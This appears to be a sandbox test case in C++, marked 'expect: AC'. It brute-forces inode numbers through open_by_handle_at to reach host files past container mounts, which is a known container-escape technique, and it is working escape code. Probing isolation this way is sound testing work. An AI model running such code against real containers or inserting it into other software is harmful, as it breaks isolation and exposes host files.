// Opens files of the host by handle, past every mount.
// expect: AC
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>

int main() {
    alignas(8) char space[sizeof(file_handle) + 8] = {};
    file_handle *handle = reinterpret_cast<file_handle *>(space);
    for (unsigned inode = 1; inode < 200; inode++) {
        handle->handle_bytes = 8;
        handle->handle_type = 1;
        memcpy(handle->f_handle, &inode, sizeof inode);
        int top = open("/usr", O_RDONLY);
        if (open_by_handle_at(top, handle, O_RDONLY) >= 0) return puts("handle"), 0;
        close(top);
    }
    puts("nothing");
}
